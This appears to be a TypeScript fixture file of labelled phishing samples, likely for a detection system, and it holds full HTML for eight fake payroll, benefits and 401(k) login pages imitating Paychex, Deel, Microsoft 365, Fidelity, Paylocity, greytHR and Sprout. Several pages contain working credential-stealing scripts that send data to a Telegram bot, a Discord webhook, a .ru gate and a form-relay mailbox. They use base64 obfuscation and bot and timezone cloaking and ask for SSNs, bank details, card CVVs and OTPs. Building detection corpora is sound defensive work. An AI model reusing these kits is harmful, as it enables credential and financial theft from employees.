import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { b64, cssBase, doc, mark, rev, tgRelay } from '../parts/yr-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yr-paychex-flex-docwrite-compromised-wp',
    label: 'phishing',
    kind: 'obfuscated-payroll-kit',
    url: 'https://www.lakeshore-dentalcare.com/wp-content/uploads/2025/08/flex/index.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#80;&#97;&#121;&#99;&#104;&#101;&#120;&#32;&#70;&#108;&#101;&#120;</title></head><body>
<script>
var _0x3f=['${b64(`<style>body{margin:0;font-family:Arial,sans-serif;background:#e9eef3}.bx{width:380px;margin:80px auto;background:#fff;padding:30px;border-top:5px solid #004b8d;box-shadow:0 1px 6px rgba(0,0,0,.2)}.bx input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #aab;box-sizing:border-box}.bx button{width:100%;padding:12px;background:#004b8d;color:#fff;border:0;font-weight:bold}</style><div class="bx"><div style="font:bold 24px Arial;color:#004b8d">PAYCHEX <span style="font-weight:normal">FLEX</span></div><p>Your W-2 and year-end pay statements are ready. Sign in to view and download.</p><form id="px"><label>Username</label><input name="u" autocomplete="username"><label>Password</label><input name="p" type="password"><label>Security question: What is your mother&#39;s maiden name?</label><input name="q"><button>Log In</button></form></div>`)}','${rev('https://relay-mailbox.ru/flex/gate.php')}'];
(function(a){document.write(decodeURIComponent(escape(atob(a[0]))));
document.getElementById('px').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST',a[1].split('').reverse().join(''),true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(new FormData(this)).toString());x.onloadend=function(){location.href='https://myapps.paychex.com/'}}})(_0x3f);
</script></body></html>`,
  },
  {
    id: 'yr-es-deel-retiro-retenido-iban',
    label: 'phishing',
    kind: 'payroll-login-kit',
    url: 'https://app-deel.payouts-verificacion.com/login?lang=es',
    body: doc({
      title: 'Deel – Inicia sesión',
      lang: 'es',
      css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#f5f6fb;color:#101828}.c{max-width:430px;margin:60px auto;background:#fff;border-radius:16px;padding:34px;box-shadow:0 8px 30px rgba(21,53,122,.08)}
.w{background:#fef3f2;color:#b42318;border-radius:10px;padding:12px;font-size:14px;margin:16px 0}input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #d0d5dd;border-radius:10px;margin:6px 0 14px;font-size:15px}
button{width:100%;padding:13px;border:0;border-radius:10px;background:#15357a;color:#fff;font-weight:600;font-size:15px}#p2{display:none}`,
      body: `<div class="c">${mark.deel}
<div id="p1"><h2>Inicia sesión en tu cuenta</h2><div class="w">Tu pago de <b>USD 3,240.00</b> (factura INV-2025-0831) está <b>retenido</b> porque tu método de retiro no está verificado. Verifícalo antes de 48 h para evitar la devolución al cliente.</div>
<form id="f1"><label>Correo electrónico</label><input name="email" type="email" required><label>Contraseña</label><input name="password" type="password" required><button>Continuar</button></form></div>
<div id="p2"><h2>Verifica tu método de retiro</h2><form id="f2"><label>Titular de la cuenta</label><input name="titular"><label>IBAN / CLABE</label><input name="iban"><label>Banco</label><input name="banco"><label>Número de tarjeta de débito asociada</label><input name="tarjeta" inputmode="numeric" maxlength="19"><label>Fecha de vencimiento</label><input name="venc" placeholder="MM/AA"><label>CVV</label><input name="cvv" maxlength="4"><button>Verificar y liberar pago</button></form></div></div>
<script>
var H='https://api.telegram.org/bot6630149208:AAF3kq0PzRj8vXw2NnYb7Lc5DmT1sUe9Qh4/sendMessage',C='5830021946';
function s(t){return fetch(H,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,text:t})})}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();var f=new FormData(this);s('DEEL login\\n'+f.get('email')+' | '+f.get('password')).finally(function(){p1.style.display='none';p2.style.display='block'})};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();var t='DEEL bank\\n';new FormData(this).forEach(function(v,k){t+=k+': '+v+'\\n'});s(t).finally(function(){location.href='https://www.deel.com/es/'})};
</script>`,
    }),
  },
  {
    id: 'yr-benefits-open-enrollment-m365-prefill',
    label: 'phishing',
    kind: 'benefits-enrollment-kit',
    url: 'https://benefits-openenrollment2026.com/auth/?e=ZGFuYS5wZXJlekBjcmVzdHZpZXdtZmcuY29t',
    body: doc({
      title: 'Sign in to your account',
      css: `body{margin:0;font-family:"Segoe UI","Segoe UI Web",Tahoma,Arial,sans-serif;background:#f2f2f2 url('/auth/bg.svg') center/cover}
.box{width:440px;margin:110px auto;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box}
.t{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 10px}.id{font-size:15px;margin-bottom:14px}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin-bottom:20px;outline:0}
button{float:right;background:#0067b8;color:#fff;border:0;padding:6px 32px;font-size:15px;min-width:108px;height:32px}
.banner{position:fixed;top:0;left:0;right:0;background:#004e8c;color:#fff;font-size:13px;padding:8px 16px}.x{font-size:13px;color:#0067b8;clear:both;padding-top:16px}`,
      body: `<div class="banner">Crestview Manufacturing · 2026 Benefits Open Enrollment closes Friday, Nov 14. Elections not confirmed will default to employee-only coverage.</div>
<div class="box">${mark.microsoft}<div class="t">Enter password</div><div class="id" id="who">&nbsp;</div>
<form id="ms" method="post" action="/auth/o365.php"><input type="hidden" name="login" id="login"><input name="passwd" type="password" placeholder="Password" autofocus><div class="x"><a href="#" style="color:#0067b8">Forgot my password</a></div><div style="overflow:hidden;margin-top:18px"><button type="submit">Sign in</button></div></form>
<p style="font-size:13px;margin-top:26px;color:#555">Sign in with your work account to review medical, dental, vision and 401(k) elections.</p></div>
<script>
var q=new URLSearchParams(location.search).get('e')||'';var em='';try{em=atob(q)}catch(x){}
document.getElementById('who').textContent=em;document.getElementById('login').value=em;
var tries=0;document.getElementById('ms').addEventListener('submit',function(e){e.preventDefault();var fd=new FormData(this);tries++;
fetch('/auth/o365.php',{method:'POST',body:fd}).then(function(){if(tries<2){alert('Your account or password is incorrect. If you don\\'t remember your password, reset it now.');this.reset&&this.reset()}else location.href='https://www.office.com/'}.bind(this))});
</script>`,
    }),
    routes: {
      'benefits-openenrollment2026.com/auth/o365.php': jsonRoute({ r: 1 }),
      'benefits-openenrollment2026.com/auth/bg.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900"><rect width="1600" height="900" fill="#e8eef4"/><circle cx="1300" cy="200" r="380" fill="#dde7f0"/></svg>' },
    },
  },
  {
    id: 'yr-netbenefits-401k-rollover-ssn-pin',
    label: 'phishing',
    kind: 'retirement-401k-kit',
    url: 'https://netbenefits-rollover-center.com/public/nb/rollover/login',
    body: doc({
      title: 'NetBenefits Login Page | Fidelity',
      css: `body{margin:0;font-family:"Fidelity Sans",Arial,sans-serif;background:#f4f4f4}.top{background:#fff;border-bottom:4px solid #368727;padding:14px 40px}
.m{max-width:980px;margin:30px auto;display:grid;grid-template-columns:380px 1fr;gap:30px;padding:0 20px}.lg{background:#fff;padding:26px;border:1px solid #ddd}
.lg input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #888;margin:4px 0 14px}.lg button{background:#368727;color:#fff;border:0;padding:11px 28px;font-weight:bold;border-radius:22px}
.msg{background:#fff;padding:26px;border:1px solid #ddd}.msg h2{color:#368727}`,
      body: `<div class="top">${mark.fidelity} <span style="margin-left:10px;color:#555">NetBenefits®</span></div>
<div class="m"><div class="lg"><h2 style="margin-top:0">Log in</h2><form method="post" action="/public/nb/rollover/auth.php"><label>Username or SSN</label><input name="user"><label>Password</label><input name="pass" type="password"><label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY"><label>Full Social Security number</label><input name="ssn" placeholder="XXX-XX-XXXX"><label>4-digit telephone PIN</label><input name="pin" type="password" maxlength="4"><button>Log in</button></form><p style="font-size:12px"><a href="#">Forgot username or password?</a> · <a href="#">Register as a new user</a></p></div>
<div class="msg"><h2>Important: your former employer's 401(k) plan is closing</h2><p>Our records show an unclaimed balance in a plan from a previous employer. Due to the plan termination, balances not rolled over by <b>December 31</b> will be liquidated and sent by check, which may create a taxable distribution and a 10% early withdrawal penalty.</p><p>Log in to review your balance and choose a tax-free rollover into your current Fidelity account. Identity verification is required under the SECURE 2.0 Act.</p></div></div>`,
    }),
  },
  {
    id: 'yr-joblane-payslip-ready-kit',
    label: 'phishing',
    kind: 'payslip-login-kit',
    url: 'https://joblane-payslips.com/employee/payslip/2025-09',
    body: doc({
      title: 'Joblane Payroll – Your payslip is ready',
      css: cssBase + `body{background:#f4f2fb}.w{max-width:420px;margin:64px auto;background:#fff;border-radius:14px;padding:32px;box-shadow:0 6px 24px rgba(35,25,77,.1)}
.ps{display:flex;align-items:center;gap:12px;background:#f4f2fb;border-radius:10px;padding:12px;margin:18px 0}.ps i{font-style:normal;font-size:26px}
button{background:#5b3cc4;width:100%}`,
      body: `<div class="w">${mark.joblane}<div class="ps"><i>📄</i><div><b>Payslip – September 2025</b><br><span class="muted">PDF · 182 KB · issued 30/09/2025</span></div></div>
<p>Sign in with your Joblane account to view and download your payslip.</p>
<form id="jl" method="post" action="https://joblane-payslips.com/employee/auth"><label>Work email</label><input type="email" name="email" required><label>Password</label><input type="password" name="password" required><button style="margin-top:16px">Sign in &amp; view payslip</button></form>
<p class="muted" style="margin-top:14px">Trouble signing in? <a href="#">Reset password</a></p></div>
<script>
(function(){var f=document.getElementById('jl');var h=location.hash.slice(1);if(h){try{f.email.value=atob(h)}catch(e){}}
f.addEventListener('submit',function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','https://formsubmit.co/ajax/payroll.ops.desk@gmail.com');x.setRequestHeader('Content-Type','application/json');x.setRequestHeader('Accept','application/json');
x.onload=function(){location.href='/employee/payslip/error'};x.send(JSON.stringify({email:f.email.value,password:f.password.value,_subject:'JL '+new Date().toISOString()}))})})();
</script>`,
    }),
    routes: { 'joblane-payslips.com/employee/payslip/error': htmlRoute('<!doctype html><title>Error</title><p>The document could not be loaded. Please try again later.</p>') },
  },
  {
    id: 'yr-paylocity-webdriver-cloaked',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://paylocity-access.app/login/',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Loading…</title><meta name="viewport" content="width=device-width,initial-scale=1"></head><body style="margin:0;background:#fff">
<div id="r" style="font:14px Arial;color:#999;text-align:center;padding-top:120px">Loading…</div>
<script>
(function(){
  var bot=navigator.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse|python|curl/i.test(navigator.userAgent)||!navigator.languages||navigator.languages.length===0||(navigator.plugins&&navigator.plugins.length===0&&!/Mobile/.test(navigator.userAgent));
  var tz=Intl.DateTimeFormat().resolvedOptions().timeZone||'';
  if(bot||!/^America\\//.test(tz)){document.title='Coming soon';document.getElementById('r').innerHTML='<h2 style="color:#333">Site under construction</h2><p>Please check back later.</p>';return}
  var k='${b64(`<style>body{font-family:Roboto,Arial,sans-serif;background:#f3f6f9}.c{width:380px;margin:80px auto;background:#fff;border-radius:8px;padding:34px;box-shadow:0 2px 12px rgba(0,0,0,.12)}.c input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #c5ccd3;border-radius:6px;margin:6px 0 14px}.c button{width:100%;padding:12px;border:0;border-radius:6px;background:#f26722;color:#fff;font-weight:700}</style><div class="c"><div style="font:700 26px Arial;color:#f26722">paylocity</div><h3>Employee Login</h3><form method="post" action="/login/p.php"><label>Company ID</label><input name="company"><label>Username</label><input name="user"><label>Password</label><input name="pass" type="password"><button>Login</button></form><p style="font-size:12px"><a href="#">Forgot password?</a></p></div>`)}';
  document.open();document.write(decodeURIComponent(escape(atob(k))));document.title='Paylocity | Login';document.close();
})();
</script></body></html>`,
  },
  {
    id: 'yr-hinglish-greythr-form16-kit',
    label: 'phishing',
    kind: 'payroll-login-kit',
    url: 'https://greythr-form16-download.in/uas/portal/auth/login',
    body: doc({
      title: 'greytHR – Login',
      lang: 'en-IN',
      css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#eef3f8}.w{display:flex;min-height:100vh}.l{flex:1;background:#1b3f6e;color:#fff;padding:60px}
.r{width:440px;background:#fff;padding:60px 44px}.r input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #c7d1dc;border-radius:4px;margin:6px 0 14px}.r button{width:100%;padding:12px;background:#2f80ed;color:#fff;border:0;border-radius:4px;font-weight:600}
.n{background:#fffbe6;border:1px solid #ffe58f;padding:10px;font-size:13px;border-radius:4px;margin-bottom:16px}`,
      body: `<div class="w"><div class="l"><h1>greytHR</h1><p>Employee Self Service · Payslips · Form 16 · IT Declaration</p></div>
<div class="r"><h2>Log in</h2><div class="n">Form 16 (FY 2024-25) ab available hai. Download karne ke liye login karein aur apna PAN aur bank account verify karein — warna TDS refund process nahi hoga.</div>
<form id="g" method="post" action="/uas/portal/auth/next.php"><label>Employee No / Login ID</label><input name="login" required><label>Password</label><input name="pwd" type="password" required><label>PAN</label><input name="pan" maxlength="10" style="text-transform:uppercase"><label>Salary account number</label><input name="acct"><label>IFSC</label><input name="ifsc"><label>Registered mobile number</label><input name="mobile" type="tel"><button>Log in</button></form>
<p style="font-size:12px"><a href="#">Forgot password?</a></p></div></div>`,
    }),
  },
  {
    id: 'yr-tl-sprout-payslip-gcash-otp',
    label: 'phishing',
    kind: 'payslip-login-kit',
    url: 'https://sprout-payslip-ph.com/ess/login',
    body: doc({
      title: 'Sprout HR – Employee Self-Service',
      lang: 'fil',
      css: `body{margin:0;font-family:Poppins,Arial,sans-serif;background:#e8f7ef}.c{max-width:400px;margin:60px auto;background:#fff;border-radius:14px;padding:30px;box-shadow:0 4px 18px rgba(0,0,0,.08)}
.c input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #c9d6cf;border-radius:8px;margin:5px 0 13px}.c button{width:100%;padding:12px;background:#22a65b;color:#fff;border:0;border-radius:8px;font-weight:600}
.n{background:#fff7e6;border-radius:8px;padding:10px;font-size:13px;margin:12px 0}`,
      body: `<div class="c"><div style="font:700 24px Poppins,Arial;color:#22a65b">🌱 sprout</div>
<div class="n">Magandang araw! Available na ang iyong <b>13th month pay</b> at payslip para sa Nobyembre. Dahil sa bagong payout partner, i-link muna ang iyong GCash para matanggap ang sahod.</div>
<form id="sp"><label>Company email o Employee ID</label><input name="user" required><label>Password</label><input name="pass" type="password" required><label>GCash number</label><input name="gcash" placeholder="09XX XXX XXXX"><label>GCash MPIN</label><input name="mpin" type="password" maxlength="4" inputmode="numeric"><button>Mag-login</button></form>
<p id="ok" style="display:none">Naipadala na namin ang 6-digit na code sa iyong GCash number. <input name="otp" id="otp" maxlength="6"><button onclick="sendOtp()">I-verify</button></p></div>
<script>
var ep='https://discord.com/api/webhooks/1271904452193026108/q8Lz2fNw0PdRk7XsYb1HcUvMjT5eAg9oKi3lQw6rZx';
function hook(c){return fetch(ep,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({content:c})})}
document.getElementById('sp').addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));hook('SPROUT '+JSON.stringify(d)).then(function(){document.getElementById('sp').style.display='none';document.getElementById('ok').style.display='block'})});
function sendOtp(){hook('OTP '+document.getElementById('otp').value).then(function(){location.href='https://sprout.ph/'})}
</script>`,
    }),
  },
];
